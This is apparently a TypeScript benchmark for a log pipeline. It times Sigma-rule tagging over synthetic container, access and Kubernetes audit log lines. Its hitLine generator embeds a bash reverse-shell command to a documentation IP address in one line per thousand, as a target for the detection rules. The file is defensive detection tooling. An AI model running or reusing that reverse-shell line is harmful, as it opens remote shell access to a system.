/**
 * What tagging costs, one thread: the pre-filter alone beside a newline scan of the same bytes, and the way of a line from raw
 * bytes to document with and without rules. The rules are a hundred made-up ones (`tag-rules.ts`) and those of
 * `pipelines/rules`. Figures are processor time, lower quartiles of fifteen rounds; the ways take turns, so that a busy machine hits all.
 * `node benchmarks/tag.ts` prints a table and, as its last line, JSON.
 */
import { BATCH_BYTES_MAX } from '../src/core/limits.ts'
import type { Tagger } from '../src/core/tagging.ts'
import { loadRules } from '../src/detect/sigma/load.ts'
import { readRuleFile } from '../src/detect/sigma/read-rule.ts'
import type { SigmaRule } from '../src/detect/sigma/rule.ts'
import { makeTagger } from '../src/detect/sigma/tagger.ts'
import { parsersOnly } from '../src/roles/process/parts.ts'
import { compilePipeline, type PipelineSpec } from '../src/stages/pipeline.ts'
import { processBatch } from '../src/stages/process-batch.ts'
import { newStreamState } from '../src/stages/stream-state.ts'
import { batchOf } from '../test/stages/stream-of.ts'
import { syntheticDetections } from './tag-rules.ts'

const ROUNDS = 15
const ROUND_MS = 40

interface Sample {
  readonly name: string
  readonly format: string
  readonly dataset: string
  readonly parse: PipelineSpec['match'][number]['parse']
  readonly raw: Buffer
  readonly count: number
}

function sampleOf(
  name: string,
  line: (n: number) => string,
  source: Pick<Sample, 'format' | 'dataset' | 'parse'> = CONTAINER,
): Sample {
  const lines: string[] = []
  for (let bytes = 0; bytes < BATCH_BYTES_MAX; bytes += lines.at(-1)!.length)
    lines.push(`${line(lines.length)}\n`)
  return { name, ...source, raw: Buffer.from(lines.join('')), count: lines.length }
}

const CONTAINER = { format: 'cri', dataset: 'kubernetes.container_logs', parse: ['cri', ['json']] }
const AUDIT = { format: 'kube-audit', dataset: 'kubernetes.audit_logs', parse: ['kube-audit'] }

function stamp(n: number): string {
  return `2026-11-24T08:00:${String(n % 60).padStart(2, '0')}.${String((n * 7919) % 1e9).padStart(9, '0')}Z stdout F `
}

const VERBS = ['GET', 'POST', 'PUT', 'DELETE']
const NOUNS = ['items', 'orders', 'customers', 'sessions', 'payments', 'carts', 'reports', 'tokens']

function accessLine(n: number): string {
  const path = `/api/v1/${NOUNS[n % 8]}/${n * 31}?page=${n % 17}`
  return `${stamp(n)}10.0.${n % 256}.${(n * 7) % 256} - - [24/Nov/2026:08:00:00 +0000] "${VERBS[n % 4]} ${path} HTTP/1.1" 200 ${n * 13} "-" "okhttp/4.12.0"`.padEnd(
    193,
    ' rt=0.012',
  )
}

function wordLine(n: number): string {
  const noun = NOUNS[n % 8]
  return `${stamp(n)}INFO  worker-${n % 12} handled ${noun} request for customer ${n * 17} in ${n % 97}ms, ${n % 5} retries, connection reused, cache ${n % 3 ? 'hit' : 'miss'}`.padEnd(
    193,
    ' waiting for next',
  )
}

function jsonLine(n: number): string {
  return `${stamp(n)}{"time":"2026-11-24T08:00:00Z","level":"info","msg":"request served","method":"${VERBS[n % 4]}","path":"/api/${NOUNS[n % 8]}/${n}","status":200,"ms":${n % 97}.5,"user":"u-${n}","trace_id":"4bf92f3577b34da6"}`
}

function escapedLine(n: number): string {
  return `${stamp(n)}{"level":"info","msg":"query \\"select * from ${NOUNS[n % 8]}\\" took ${n % 97}ms","html":"\\u003ctd\\u003e${n}\\u003c/td\\u003e","path":"C:\\\\data\\\\${n}"}`
}

/** One line in a thousand is what a rule looks for. */
function hitLine(n: number): string {
  return n % 1000 === 500 ? `${stamp(n)}+ bash -c "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"` : wordLine(n)
}

function auditLine(n: number): string {
  const resource = ['pods', 'configmaps', 'leases', 'endpointslices', 'nodes', 'services'][n % 6]!
  const verb = ['get', 'list', 'watch', 'update', 'patch', 'create'][n % 5]!
  const user =
    n % 3 ? `system:node:node-${n % 40}` : 'system:serviceaccount:kube-system:endpointslice-controller'
  return `{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"7e0cbccf-8d8a-4f5f-aefb-${String(n).padStart(12, '0')}","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/shop/${resource}/web-${n}?timeout=10s","verb":"${verb}","user":{"username":"${user}","groups":["system:nodes","system:authenticated"]},"sourceIPs":["10.0.0.${n % 250}"],"userAgent":"kubelet/v1.34.2 (linux/amd64) kubernetes/8cc511e","objectRef":{"resource":"${resource}","namespace":"shop","name":"web-${n}","apiVersion":"v1"},"responseStatus":{"metadata":{},"code":200},"requestReceivedTimestamp":"2026-11-24T08:00:00.120000Z","stageTimestamp":"2026-11-24T08:00:00.134512Z","annotations":{"authorization.k8s.io/decision":"allow","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding"}}`
}

/** Nanoseconds a line of several ways, each round one after the other; lower quartiles, for other work only ever adds. */
function compare(count: number, ways: readonly (() => void)[]): number[] {
  const rates = ways.map((): number[] => [])
  for (let round = -1; round < ROUNDS; round++) {
    for (const [index, way] of ways.entries()) {
      const start = performance.now()
      const before = threadNs()
      let runs = 0
      while (performance.now() - start < ROUND_MS) {
        way()
        runs++
      }
      if (round >= 0) rates[index]!.push((threadNs() - before) / (runs * count))
    }
  }
  return rates.map((all) => all.sort((a, b) => a - b)[ROUNDS >> 2]!)
}

/** Time that this thread had a processor: others that want it too do not count. */
function threadNs(): number {
  const { user, system } = process.threadCpuUsage()
  return (user + system) * 1000
}

function newlineScan({ raw }: Sample): () => void {
  return () => {
    let at = 0
    while (at >= 0 && at < raw.length) at = raw.indexOf(0x0a, at) + 1
  }
}

/** As `process` asks: once for the batch, once for each line. */
function filter(sample: Sample, tagger: Tagger): () => void {
  const source = tagger.forSource({ class: 'bench', dataset: sample.dataset, format: sample.format }, {})!
  const ends: number[] = []
  for (let at = sample.raw.indexOf(0x0a); at >= 0; at = sample.raw.indexOf(0x0a, at + 1)) ends.push(at)
  return () => {
    const made = source.prepare(sample.raw)
    if (made.none) return
    let start = 0
    for (const end of ends) {
      made.may(start, end)
      start = end + 1
    }
  }
}

function parse(sample: Sample, tagger: Tagger | undefined): () => void {
  const { format, dataset, count, raw } = sample
  const spec = { class: 'bench', match: [{ when: {}, parse: sample.parse, dataset }] }
  const pipeline = compilePipeline(spec, { ...parsersOnly, tagger })
  const provenance = { ...batchOf().provenance, format }
  const state = newStreamState()
  let firstSeq = 0
  return () => {
    const batch = batchOf({ provenance, firstSeq, count, rawBytes: raw.length })
    processBatch(state, batch, { raw, receivedMs: batch.wallTimeMs, pipeline })
    firstSeq += count
  }
}

function syntheticRules(): SigmaRule[] {
  return syntheticDetections().flatMap((detection, index) => {
    const id = `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`
    const logsource = 'logsource: { product: decklog, category: container }'
    const text = `title: r${index}\nid: ${id}\n${logsource}\ndetection:\n${detection}\n`
    const { rules, problems } = readRuleFile(text, { file: `r${index}.yml`, set: 'bench' })
    if (problems.length > 0) throw new Error(JSON.stringify(problems))
    return rules
  })
}

const { rules: liveRules } = await loadRules({ directory: 'pipelines/rules' })
// Far more than a hundred: none of them is left out because it costs much.
const rules = [...syntheticRules(), ...liveRules]
const tagger = makeTagger(rules)
const samples = [
  sampleOf('words', wordLine),
  sampleOf('access log', accessLine),
  sampleOf('JSON', jsonLine),
  sampleOf('JSON with escapes', escapedLine),
  sampleOf('1 line of 1,000 hit', hitLine),
  sampleOf('kube-audit', auditLine, AUDIT),
]
const results = samples.map((sample) => {
  const ways = [newlineScan(sample), filter(sample, tagger), parse(sample, undefined), parse(sample, tagger)]
  const [newline, prefilter, plain, tagged] = compare(sample.count, ways) as [number, number, number, number]
  const bytes = sample.raw.length / sample.count
  return {
    sample: sample.name,
    bytesPerLine: Math.round(bytes),
    newlineScanNs: Math.round(newline),
    prefilterNs: Math.round(prefilter),
    prefilterMBps: Math.round((bytes / prefilter) * 1000),
    newlineScanMBps: Math.round((bytes / newline) * 1000),
    parseNs: Math.round(plain),
    parseWithRulesNs: Math.round(tagged),
    costPercent: Math.round((tagged / plain - 1) * 1000) / 10,
  }
})

process.stdout.write(`${rules.length} rules, ${liveRules.length} of them those of pipelines/rules\n`)
process.stdout.write(
  `${'line'.padEnd(22)}bytes   newline scan       pre-filter     parse  with rules    cost\n`,
)
for (const one of results) {
  const scan = `${one.newlineScanNs} ns ${one.newlineScanMBps} MB/s`.padStart(16)
  const pre = `${one.prefilterNs} ns ${one.prefilterMBps} MB/s`.padStart(17)
  const [plain, tagged] = [one.parseNs, one.parseWithRulesNs].map((ns) => `${ns} ns`.padStart(10))
  const cost = `${one.costPercent} %`.padStart(8)
  process.stdout.write(
    `${one.sample.padEnd(22)}${String(one.bytesPerLine).padStart(5)}${scan}${pre}${plain}${tagged}${cost}\n`,
  )
}
process.stdout.write(`${JSON.stringify({ benchmark: 'tag', rules: rules.length, results })}\n`)
